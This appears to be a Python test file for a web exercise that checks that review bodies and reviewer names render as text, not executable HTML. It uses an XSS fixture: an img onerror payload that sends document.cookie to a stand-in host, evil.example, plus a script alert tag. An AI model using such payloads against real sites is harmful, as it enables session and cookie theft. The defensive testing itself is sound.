"""Proofs for the product review formatting exercise.

Each renders the review section with a hostile review and looks for anything a browser would
execute: a <script> other than the page's own script file, an on* event-handler attribute, or
a javascript: URL. The reviewer-name proof has no JavaScript engine: it reads the script's
source, finds the HTML sinks in the function that receives the name, and evaluates the
template literal with the value the browser would hand it.
"""

from __future__ import annotations

import os
import re
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

from reviewpages.models import Review
from reviewpages.views import render_reviews

PAGE_SCRIPT = "/static/reviews.js"
HOSTILE_MARKUP = '<img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'


class _PageScan(HTMLParser):
    """Collects executable constructs and the data-reviewer-name of each review."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.executable: list[str] = []
        self.reviewer_names: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and values.get("src") != PAGE_SCRIPT:
            self.executable.append("<script>")
        for name, value in attrs:
            if name.startswith("on"):
                self.executable.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.executable.append(f"<{tag} {name}=javascript:...>")
        if tag == "article" and "data-reviewer-name" in values:
            self.reviewer_names.append(values["data-reviewer-name"] or "")


def scan(html: str) -> _PageScan:
    parser = _PageScan()
    parser.feed(html)
    parser.close()
    return parser


def review(**fields: object) -> Review:
    values: dict = dict(review_id="r1", product_sku="KT-100", author_name="Sam P.", rating=5,
                        title="Quiet kettle", body="Boils fast.", created=datetime(2026, 2, 1))
    values.update(fields)
    return Review(**values)


def test_review_body_cannot_inject_executable_html() -> None:
    """A review body is text the customer typed: formatting must not let it become markup."""
    body = f"Great kettle!\n\n{HOSTILE_MARKUP}\n\n- **<script>alert(1)</script>**"
    html = render_reviews("Kettle", [review(body=body)])
    assert scan(html).executable == [], "the review body was rendered as live HTML"


def _function(source: str, name: str) -> tuple[list[str], str]:
    """Parameters and body of ``function name(...) { ... }`` (braces balanced)."""
    match = re.search(rf"function\s+{name}\s*\(([^)]*)\)\s*\{{", source)
    assert match, f"{name} not found in the script"
    depth, end = 1, match.end()
    while depth:
        depth += {"{": 1, "}": -1}.get(source[end], 0)
        end += 1
    params = [p.strip() for p in match.group(1).split(",") if p.strip()]
    return params, source[match.end():end - 1]


def test_reviewer_name_is_never_parsed_as_html() -> None:
    """The thanks note must show a hostile display name as text, not run it."""
    html = render_reviews("Kettle", [review(author_name=HOSTILE_MARKUP)])
    page = scan(html)
    assert page.executable == [], "precondition: the server-rendered page escapes the name"
    (name_in_browser,) = page.reviewer_names  # what article.dataset.reviewerName returns

    script = (Path(os.environ["EXERCISE_TREE"]) / "reviewpages" / "static" / "reviews.js").read_text()
    assert re.search(r"showThanks\(\s*article\s*,\s*article\.dataset\.reviewerName\s*\)", script)
    params, body = _function(script, "showThanks")
    name_param = params[1]

    parsed_as_html: list[str] = []
    for sink in re.finditer(r"\.(?:innerHTML|outerHTML)\s*\+?=\s*`((?:[^`\\]|\\.)*)`", body):
        parsed_as_html.append(sink.group(1).replace("${" + name_param + "}", name_in_browser))
    for sink in re.finditer(r"(?:insertAdjacentHTML|document\.write)\s*\(([^;]*)\)", body):
        assert name_param not in sink.group(1), "the name is passed to an HTML-parsing call"
    for other in re.finditer(r"\.(?:innerHTML|outerHTML)\s*\+?=\s*([^`\s][^;]*);", body):
        assert name_param not in other.group(1), "the name is concatenated into innerHTML"

    for fragment in parsed_as_html:
        assert scan(fragment).executable == [], (
            f"showThanks hands innerHTML this string, which runs script: {fragment}"
        )
